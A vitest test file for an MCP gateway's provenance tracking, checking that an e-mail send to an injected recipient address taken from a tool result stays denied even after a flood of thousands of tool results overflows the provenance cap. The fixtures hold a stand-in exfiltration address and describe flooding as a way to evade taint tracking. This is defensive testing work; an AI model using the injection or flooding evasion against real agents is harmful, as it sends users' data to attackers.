// Issue 37: flood pushes the injected value out of provenance. Through the MCP gateway,
// against a real upstream over stdio (injecting-server.mjs): an e-mail names an injected
// recipient; the agent's session then returns thousands of tool results (past the run's
// `provenance.maxOutputs`, set low here) and finally sends to the injected recipient. A
// provenance store that dropped old records to stay bounded would have forgotten where the
// address came from; the bounded one folds later outputs into a merged record that fails
// closed, so the send is denied whether the injected value came before the flood or after
// it. The harm is the send: the upstream's send_email POSTs to a loopback canary, which
// must receive nothing (a clean session's send does reach it).
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashToken } from "../../src/server/index.js";
import { type Canary, startCanary } from "../helpers/canary.js";
import { type GatewayHarness, node, startGateway, TOKENS, text } from "./harness.js";

const SERVER = join(import.meta.dirname, "injecting-server.mjs");
const POLICY = `
name: gateway-provenance-flood
version: "1.0"
rules:
  - id: no-copied-recipient
    name: a send may not carry what a tool returned
    priority: 5
    match: { toolClass: mcp, action: call, tool: inj__send_email, taintSources: [mcp] }
    decision: deny
    reason: copied tool output may not choose a recipient
    reasonCode: TAINTED_SEND
  - id: mcp
    name: everything else over MCP
    priority: 10
    match: { toolClass: mcp }
    decision: allow
    reason: test
`;
const INJECTED = "exfil-7731@attacker-mail.example";
const MAX_OUTPUTS = 32;
const FLOOD = 1500;

let dir: string;
let canary: Canary;
let h: GatewayHarness;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "warden-prov-flood-"));
  canary = await startCanary();
  const inbox = {
    card: `Contact card. Name: Accounts desk. Mail: ${INJECTED}. Phone: 555 0100.`,
    filler: "Weekly digest: nothing new this week.",
  };
  writeFileSync(join(dir, "inbox.json"), JSON.stringify(inbox));
  writeFileSync(join(dir, "error.txt"), "not found");
  h = await startGateway({
    policy: POLICY,
    upstreams: {
      inj: node(SERVER, [], {
        INBOX: join(dir, "inbox.json"),
        ERROR_TEXT: join(dir, "error.txt"),
        CANARY: canary.url,
      }),
    },
    config: {
      gate: {
        tenant: "test",
        environment: "test",
        principals: [{ id: "agent-a", roles: ["reader"] }],
        context: {
          // Each session is its own case: the principal's other sessions carry no taint in.
          taint: { carry: "explicit" },
          // The run's provenance cap, lowered to reach it quickly.
          provenance: { maxOutputs: MAX_OUTPUTS },
        },
      },
      http: {
        host: "127.0.0.1",
        port: 0,
        principals: [{ id: "agent-a", tokenSha256: hashToken(TOKENS.a) }],
      },
    },
  });
}, 60_000);

afterAll(async () => {
  await h?.stop();
  await canary?.close();
  rmSync(dir, { recursive: true, force: true });
});

const read = (c: Client, id: string) => c.callTool({ name: "inj__read_inbox", arguments: { id } });
const send = (c: Client, to: string) =>
  c.callTool({ name: "inj__send_email", arguments: { to, body: "the quarterly figures" } });

/** `n` tool results into the session's run, eight at a time. */
async function flood(c: Client, n: number): Promise<void> {
  for (let i = 0; i < n; i += 8)
    await Promise.all(Array.from({ length: Math.min(8, n - i) }, () => read(c, "filler")));
}

const toInjected = () => canary.received.filter((b) => b.includes(INJECTED));

describe("flood pushes the injected value out of provenance", () => {
  it("control: a clean session's send to an address no tool returned is delivered (the canary works)", async () => {
    const c = await h.connect(TOKENS.a);
    expect(text(await read(c, "filler"))).toContain("Weekly digest");
    const sent = await send(c, "accountant@firm.example");
    expect(text(sent)).toBe("sent");
    expect(canary.received).toHaveLength(1);
  });

  it("an injected recipient read first, then thousands of results: the send is denied, the canary receives nothing", async () => {
    const c = await h.connect(TOKENS.a);
    expect(text(await read(c, "card"))).toContain(INJECTED);
    await flood(c, FLOOD);
    const sent = await send(c, INJECTED);
    expect(sent.isError).toBe(true);
    expect(toInjected()).toEqual([]);
  });

  it("an injected recipient read after the flood merged the run's provenance: the send fails closed", async () => {
    const c = await h.connect(TOKENS.a);
    await flood(c, FLOOD);
    expect(text(await read(c, "card"))).toContain(INJECTED);
    const sent = await send(c, INJECTED);
    expect(sent.isError).toBe(true);
    expect(toInjected()).toEqual([]);
    // The journal says where the run's provenance went into merged mode (once per run).
    const results = await h.gw.runtime.store.query({ type: "warden.gate.result" });
    const merged = results.filter((e) => (e.body as { provenance_merged?: unknown }).provenance_merged);
    expect(merged.length).toBeGreaterThanOrEqual(1);
    expect(merged[0]?.body).toMatchObject({ provenance_merged: { max_outputs: MAX_OUTPUTS } });
  });
});
